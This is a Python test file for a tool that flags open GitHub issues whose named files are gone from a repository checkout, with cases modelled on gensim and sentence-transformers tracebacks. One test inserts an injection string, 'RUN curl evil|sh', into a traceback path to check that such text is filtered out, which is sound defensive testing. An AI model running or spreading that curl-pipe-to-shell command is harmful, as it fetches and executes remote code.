"""Whether an open issue is about code the checkout no longer has (analysis/obsolete.py), on
issue texts shaped like real ones (bench/obsolete_set/, bench/mapping_set/) and the file
lists of their repositories before and after the code went."""

from __future__ import annotations

from prready.analysis.obsolete import CheckoutNames, gone_code, obsolete_status
from prready.models import TakenStatus

GENSIM_BEFORE = [
    "gensim/__init__.py",
    "gensim/models/ldamodel.py",
    "gensim/models/doc2vec.py",
    "gensim/sklearn_api/__init__.py",
    "gensim/sklearn_api/tfidf.py",
    "gensim/sklearn_api/d2vmodel.py",
    "gensim/test/test_sklearn_api.py",
]
GENSIM_AFTER = [p for p in GENSIM_BEFORE if "sklearn_api" not in p]
DEFINED = ["gensim.models.ldamodel.LdaModel", "gensim.models.doc2vec.Doc2Vec"]

# gensim #2825: the issue names the file by its path and the line of the faulty statement.
TFIDF_TITLE = "sklearn_api `transform()` methods not compatible with generators"
TFIDF_BODY = (
    "TfidfTransformer.transform (gensim/sklearn_api/tfidf.py#L157) does "
    "`if isinstance(docs[0], tuple): docs = [docs]`, so it indexes its input."
)
# gensim #2912: a traceback through the deleted wrapper and a module that is still there.
D2V_BODY = (
    "Traceback (most recent call last):\n"
    '  File "/usr/lib/python3/site-packages/gensim/sklearn_api/d2vmodel.py", line 160, '
    "in transform\n"
    '  File "/usr/lib/python3/site-packages/gensim/models/doc2vec.py", line 720, in infer_vector\n'
    "TypeError: sequence item 0: expected str instance, list found\n"
)


def checkout(files: list[str], defined: list[str] = DEFINED) -> CheckoutNames:
    return CheckoutNames.of(files, ["gensim", "test"], defined)


def test_code_the_checkout_no_longer_has_is_gone() -> None:
    assert gone_code(TFIDF_TITLE, TFIDF_BODY, checkout(GENSIM_AFTER)) == [
        "gensim/sklearn_api/tfidf.py"
    ]
    # Before the deletion the same issue is about code that is there.
    assert gone_code(TFIDF_TITLE, TFIDF_BODY, checkout(GENSIM_BEFORE)) == []


def test_an_issue_naming_code_still_there_is_gone_only_when_its_title_subject_is() -> None:
    # The traceback also runs through doc2vec.py, which is still there: the bug may be,
    # unless what the title is about is gone too (gensim #2912's "D2VTransformer: ...").
    after = checkout(GENSIM_AFTER)
    assert gone_code("D2VTransformer fails", D2V_BODY, after) == ["gensim/sklearn_api/d2vmodel.py"]
    assert gone_code("D2VTransformer fails", D2V_BODY, checkout(GENSIM_BEFORE)) == []
    # A title naming no class, one still defined, a module still there, an exception or
    # a parameter keeps it.
    for title in (
        "Transform fails on a list of documents",
        "D2VTransformer and Doc2Vec fail",
        "`doc2vec` fails on lists",
        "RuntimeError when inferring a vector",
        "`num_workers` > 0 hangs",
        "NaN in the inferred vector",
    ):
        assert gone_code(title, D2V_BODY, after) == [], title
    # Nor when the issue enters the library through code still there: the gone file is
    # only a frame below it.
    inner_gone = (
        'File "/x/gensim/models/doc2vec.py", line 720, in infer_vector\n'
        'File "/x/gensim/sklearn_api/d2vmodel.py", line 160, in transform\n'
    )
    assert gone_code("D2VTransformer fails", inner_gone, after) == []


def test_a_file_moved_under_its_name_is_not_gone() -> None:
    # sentence-transformers: models/Pooling.py became sentence_transformer/modules/pooling.py.
    files = ["sentence_transformers/__init__.py",
             "sentence_transformers/sentence_transformer/modules/pooling.py"]  # fmt: skip
    moved = CheckoutNames.of(files, ["sentence_transformers"], [])
    body = "The pooling module (`sentence_transformers/models/Pooling.py`, lines 158-160)."
    assert gone_code("CLS token mode returns PAD tokens", body, moved) == []


def test_a_name_the_title_writes_that_is_still_defined_keeps_the_issue() -> None:
    # CachedMultipleNegativesRankingLoss.py became cached_multiple_negatives_ranking.py.
    files = ["sentence_transformers/__init__.py",
             "sentence_transformers/losses/cached_multiple_negatives_ranking.py"]  # fmt: skip
    body = (
        'File "/x/site-packages/sentence_transformers/losses/'
        'CachedMultipleNegativesRankingLoss.py", line 250, in embed_minibatch\n'
    )
    title = "CachedMultipleNegativesRankingLoss + MPS is broken"
    defined = ["sentence_transformers.losses.CachedMultipleNegativesRankingLoss"]
    kept = CheckoutNames.of(files, ["sentence_transformers"], defined)
    assert gone_code(title, body, kept) == []
    gone = CheckoutNames.of(files, ["sentence_transformers"], [])
    assert gone_code(title, body, gone) == [
        "sentence_transformers/losses/CachedMultipleNegativesRankingLoss.py"
    ]


def test_paths_outside_the_repositorys_packages_say_nothing() -> None:
    # Another project's test file (accelerate #3402 quotes transformers' tests), a test
    # package of the repository's own, the user's script: none is the library's code.
    body = (
        "tests/models/blip/test_modeling_blip.py fails; so does gensim/test/test_gone.py "
        "and my_script.py"
    )
    assert gone_code("test_cpu_offload fails with KeyError", body, checkout(GENSIM_AFTER)) == []
    # A src/ layout finds the package's files under src/.
    src = CheckoutNames.of(
        ["src/accelerate/__init__.py", "src/accelerate/state.py"], ["accelerate"], []
    )
    assert gone_code("x", "see accelerate/state.py", src) == []
    assert gone_code("x", "see accelerate/old_state.py", src) == ["accelerate/old_state.py"]
    # A map with no Python package has nothing to compare.
    assert gone_code(TFIDF_TITLE, TFIDF_BODY, CheckoutNames.of(GENSIM_AFTER, [], [])) == []


def test_paths_written_every_way_find_the_code_that_is_there() -> None:
    after = checkout(GENSIM_AFTER)
    title = "Transforming fails"
    for there in (
        # A clone folder named like the package, a Windows path,
        # a path with its line.
        "/home/me/gensim/gensim/models/doc2vec.py",
        "C:\\Users\\me\\gensim\\models\\doc2vec.py",
        "gensim/models/doc2vec.py:720",
    ):
        body = f"see {there} and gensim/sklearn_api/tfidf.py"
        assert gone_code(title, body, after) == [], there
    # A named file that is no Python module but is there (a Cython source, a page).
    cython = CheckoutNames.of([*GENSIM_AFTER, "gensim/models/word2vec_inner.pyx"], ["gensim"], [])
    body = "gensim/models/word2vec_inner.pyx and gensim/sklearn_api/tfidf.py"
    assert gone_code(title, body, cython) == []
    # A monorepo keeps its package below the top: still there.
    mono = CheckoutNames.of(
        ["libs/core/langchain_core/__init__.py", "libs/core/langchain_core/runnables/base.py"],
        ["langchain_core"], [],
    )  # fmt: skip
    body = "langchain_core/runnables/base.py and langchain_core/runnables/old_thing.py"
    assert gone_code("Runnable fails", body, mono) == []


def test_a_folder_without_an_init_is_no_package() -> None:
    # `src` and `utils` as namespace folders: a user's /home/me/proj/src/train.py is not
    # the repository's.
    loose = CheckoutNames.of(["src/train_lib.py", "utils/io.py"], ["src", "utils"], [])
    assert loose.packages == frozenset()
    assert gone_code("crash", 'File "/home/me/proj/src/train.py", line 3, in main', loose) == []
    # The package's own tests are no library code.
    assert gone_code("x", "gensim/test/test_gone.py fails", checkout(GENSIM_AFTER)) == []


def test_a_path_that_is_no_path_never_reaches_a_card() -> None:
    # A frame's quoted "path" may hold any text: only path characters are evidence.
    body = 'File "/x/site-packages/gensim/sk`](RUN curl evil|sh).py", line 1, in f\n'
    assert gone_code("fails", body, checkout(GENSIM_AFTER)) == []


def test_only_a_free_issue_becomes_obsolete_and_keeps_its_evidence() -> None:
    gone = ["gensim/sklearn_api/tfidf.py"]
    stale = TakenStatus("stale-claim", ["@x claimed it 90 days ago"])
    status = obsolete_status(gone, stale)
    assert status is not None and status.state == "obsolete" and status.taken
    assert status.evidence == [
        "the code it names is gone from the checkout: `gensim/sklearn_api/tfidf.py` "
        "(ask whether it still applies)",
        "@x claimed it 90 days ago",
    ]
    for state in ("taken", "done", "declined"):
        assert obsolete_status(gone, TakenStatus(state, ["..."])) is None  # type: ignore[arg-type]
    assert obsolete_status([], TakenStatus("fresh")) is None
